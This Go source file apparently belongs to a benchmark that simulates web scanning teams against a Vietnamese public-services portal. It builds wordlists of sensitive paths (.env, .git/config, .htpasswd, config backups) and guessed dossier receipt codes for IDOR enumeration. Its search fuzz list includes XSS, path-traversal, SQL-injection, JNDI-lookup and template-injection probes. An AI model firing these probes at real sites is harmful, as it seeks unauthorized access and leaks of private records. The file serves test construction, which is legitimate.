package portalbench

import (
	"fmt"
	"math/rand/v2"
	"net/url"
	"strings"
)

// commonWords is a directory wordlist of the kind ffuf and gobuster are
// run with (SecLists' common.txt, dirb's common.txt): what every web
// server is probed for, and, at the end, the words a team adds once it
// has read the portal's links. (A function, not a variable: nothing in
// the package is mutable state.)
func commonWords() []string {
	return []string{
		".bash_history", ".DS_Store", ".env", ".git/HEAD", ".git/config", ".gitignore", ".htaccess", ".htpasswd",
		".svn/entries", ".well-known/security.txt", "_admin", "_vti_bin", "~root", "about", "access", "account",
		"accounts", "admin", "admin/login", "administrator", "adminer", "ajax", "api", "api/v1", "app", "apps",
		"archive", "assets", "auth", "backend", "backups", "bak", "bin", "blog", "cache", "cgi-bin",
		"changelog", "cms", "components", "composer.json", "conf", "config", "configuration", "console", "contact",
		"content", "cp", "cpanel", "cron", "css", "dashboard", "data", "database", "db", "debug", "default",
		"demo", "dev", "docs", "download", "downloads", "dump", "editor", "email", "env", "error", "errors",
		"export", "feed", "file", "files", "fileadmin", "forum", "ftp", "gallery", "help", "home", "hosting",
		"html", "images", "img", "import", "inc", "include", "includes", "index", "info", "install", "installer",
		"js", "json", "lib", "library", "log", "login", "logout", "logs", "mail", "manage", "manager", "media",
		"member", "members", "misc", "modules", "monitor", "mysql", "news", "old", "panel", "passwd", "password",
		"php", "phpinfo", "phpmyadmin", "pma", "portal", "private", "profile", "public", "register", "reports",
		"resources", "rest", "root", "rss", "search", "secret", "secure", "server-status", "server-info",
		"service", "services", "setup", "shell", "site", "sitemap.xml", "sql", "src", "staff", "static", "stats",
		"status", "storage", "swagger", "swagger.json", "system", "temp", "template", "templates", "test",
		"tests", "theme", "themes", "tmp", "tools", "upload", "uploads", "user", "users", "v1", "v2", "vendor",
		"web", "web.config", "webadmin", "webmail", "wp-admin", "wp-content", "wp-includes", "wp-login.php",
		"www", "xmlrpc.php",
		// The portal's own words, some of them real pages.
		"robots.txt", "backup/", "backup/portal-config.bak", "quantri", "quantri/", "tin-tuc", "van-ban",
		"lien-he", "can-bo", "tim-kiem", "dich-vu-cong", "dich-vu-cong/thu-tuc", "dich-vu-cong/tra-cuu",
		"mot-cua", "mot-cua/dang-nhap", "tien-ich", "gioi-thieu", "thong-bao", "hoi-dap", "lich-cong-tac",
	}
}

// extensions are ffuf's -e: each plain word is also tried with each.
func extensions() []string { return []string{".php", ".bak", ".txt"} }

// searchWords are what a parameter fuzz of the search sends: words from
// a parameter wordlist, Vietnamese terms, and the probes of an injection
// wordlist (the injectable search answers some of them with errors).
func searchWords() []string {
	return []string{
		"test", "admin", "a", "1", "news", "tin", "thông báo", "quyết định", "kế hoạch", "chuyển đổi số",
		"hội nghị", "giáo dục", "y tế", "đất đai", "xây dựng", "du lịch", "nông thôn mới", "công an", "thuế",
		"tuyển dụng", "<script>alert(1)</script>", "../../etc/passwd", "%00", "'", "\"", "' OR '1'='1",
		"1' ORDER BY 1--", "' UNION SELECT NULL--", "admin'--", "${jndi:ldap://x/a}", "{{7*7}}",
	}
}

// scanList is one team's wordlist as its fuzzers expand it, in the order
// the team sends it: mostly paths that are not there, some real pages,
// searches, dossier lookups by guessed receipt codes (the enumeration an
// IDOR invites), news items and component sites by guessed ids. r picks
// the guesses and the order, so that no two teams walk the same list.
func scanList(r *rand.Rand, dossiers int) []string {
	words := commonWords()
	var out []string
	for _, w := range words {
		out = append(out, "/"+w)
		if !strings.ContainsAny(w, "./") {
			for _, e := range extensions() {
				out = append(out, "/"+w+e)
			}
		}
	}
	for _, w := range searchWords() {
		out = append(out, "/tim-kiem?q="+url.QueryEscape(w))
	}
	for _, w := range words[:90] {
		out = append(out, "/tim-kiem?q="+url.QueryEscape(w))
	}
	// Receipt codes a little past the last generated dossier, as a
	// guesser does not know where they end.
	codes := max(dossiers+dossiers/4, 100)
	for range 120 {
		out = append(out, fmt.Sprintf("/dich-vu-cong/tra-cuu?ma=HS%08d", 1+r.IntN(codes)))
	}
	for range 40 {
		out = append(out, fmt.Sprintf("/tin-tuc/%d", 1+r.IntN(3000)))
	}
	for _, w := range words[:20] {
		out = append(out, "/p/"+url.PathEscape(w)+"/", "/van-ban?site="+url.QueryEscape(w))
	}
	out = append(out, "/p/tinh/", "/van-ban", "/can-bo", "/dich-vu-cong/thu-tuc")
	r.Shuffle(len(out), func(i, j int) { out[i], out[j] = out[j], out[i] })
	return out
}
